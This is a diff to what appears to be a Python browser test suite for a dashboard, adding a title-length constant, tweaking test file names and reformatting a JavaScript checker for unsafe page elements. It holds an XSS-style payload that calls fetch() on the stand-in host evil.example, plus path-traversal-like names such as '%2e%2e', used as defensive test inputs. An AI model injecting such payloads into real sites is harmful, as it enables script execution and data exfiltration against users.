@@ -33,6 +33,7 @@ from tests.dashboard.looks import WIDER
 from tests.dashboard.scene import NEVER
 from tests.serve.hub import Hub
 
+MOST_OF_A_CARD = 190  # characters of a title, of which the hub keeps 200 at the side
 EVIL = "https://evil.example"
 PWN = f"document.body.dataset.pwned=1,alert(1),fetch('{EVIL}')"
 PAYLOADS = {
@@ -85,8 +86,8 @@ NAMES = (
     "null",
     "undefined",
     "0",
-    ".",
-    "..",
+    "...",
+    "%2e%2e",
     "a/b?c#d&e=%",
 )
 
@@ -100,7 +101,8 @@ STRANGE = """(evil) => {
     }
     if (each.matches("a[href]") && !/^(https?|mailto):$/.test(each.protocol)) strange.push(`a link to ${each.href}`);
   }
-  const never = "iframe, object, embed, base, math, form[action], [formaction], meta[http-equiv], style, img, script:not([src]):not(#boot)";
+  const never = "iframe, object, embed, base, math, form[action], [formaction], meta[http-equiv], style, img, "
+    + "script:not([src]):not(#boot)";
   for (const each of document.querySelectorAll(never)) strange.push(each.outerHTML.slice(0, 80));
   if (document.body.dataset.pwned || {}.polluted) strange.push("a payload ran");
   return strange;
@@ -262,4 +264,6 @@ def _faults(page: Page) -> list[str]:
 def _same(shown: str, title: str) -> bool:
     """Whether that is the title, or its beginning; `code` stands there without its marks."""
     plain = shown.removesuffix("…").replace("`", "")
-    return title.replace("`", "").startswith(plain) and len(plain) >= min(len(title.replace("`", "")), 200)
+    return title.replace("`", "").startswith(plain) and len(plain) >= min(
+        len(title.replace("`", "")), MOST_OF_A_CARD
+    )
